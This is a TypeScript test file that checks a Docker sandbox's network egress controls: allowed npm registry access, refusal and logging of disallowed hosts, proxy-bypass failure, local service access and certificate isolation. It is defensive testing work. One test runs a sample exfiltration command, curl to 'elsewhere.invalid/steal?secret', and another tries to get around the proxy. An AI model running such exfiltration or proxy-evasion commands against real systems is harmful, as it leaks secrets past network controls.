import { afterAll, beforeAll, expect, test } from 'vitest';
import { certificatePath } from '../../src/sandbox/docker/box-environment.ts';
import { npmOfThisHost } from '../../src/sandbox/npm-of-this-host.ts';
import type { EgressAttempt, EgressRule, Sandbox } from '../../src/sandbox/sandbox.ts';
import { type DockerSandboxesForTests, dockerSandboxesForTests } from '../support/docker-sandboxes.ts';

const never = new AbortController().signal;
const minute = { timeoutMs: 60_000 };
const attempts: EgressAttempt[] = [];

let sandboxes: DockerSandboxesForTests;
let sandbox: Sandbox;
let registry: EgressRule;

beforeAll(async () => {
  const { rule, env, caPem } = await npmOfThisHost(never);
  registry = rule;
  sandboxes = await dockerSandboxesForTests({ upstreamCaPem: caPem });
  sandbox = await sandboxes.provider.create(
    sandboxes.spec({
      env,
      limits: { cpus: 1, memoryMiB: 512, pids: 256, workspaceMiB: 128, workspaceInodes: 20_000 },
      network: { kind: 'egress', allow: [registry], onAttempt: (attempt) => attempts.push(attempt) },
    }),
    never,
  );
});

afterAll(() => sandboxes[Symbol.asyncDispose]());

test('npm installs a real package from the registry this host uses', async () => {
  await sandbox.files.write('package.json', JSON.stringify({ dependencies: { 'left-pad': '1.3.0' } }));

  const result = await sandbox.exec("npm install && node -p \"require('left-pad')('x', 3)\"", minute);

  expect(result).toMatchObject({ ok: true, stdout: expect.stringContaining('  x\n') });
  expect(attempts).toContainEqual(expect.objectContaining({ host: registry.host, decision: 'allowed', status: 200 }));
});

test('a host that is not allowed is refused, and the attempt is written down', async () => {
  const result = await sandbox.exec('curl --silent --show-error https://elsewhere.invalid/steal?secret', minute);

  expect(result.ok).toBe(false);
  expect(attempts).toContainEqual(expect.objectContaining({ host: 'elsewhere.invalid', decision: 'denied' }));
});

test('going round the proxy leads nowhere', async () => {
  const result = await sandbox.exec(`curl --noproxy '*' --max-time 5 https://${registry.host}/`, minute);

  expect(result.stderr).toMatch(/Could not resolve host/);
});

test('a local service of the repository is reached without the proxy', async () => {
  const server = `require('http').createServer((_, r) => r.end('local')).listen(8080, () => fetch('http://localhost:8080').then((r) => r.text()).then((t) => { console.log(t); process.exit(); }))`;

  const result = await sandbox.exec(['node', '-e', server], minute);

  expect(result.stdout).toBe('local\n');
});

test('the box trusts its own proxy and has none of the certificates of the host', async () => {
  const result = await sandbox.exec(`grep -c BEGIN ${certificatePath}; ls /usr/local/share/ca-certificates`, minute);

  expect(result.stdout).toBe('1\n');
});
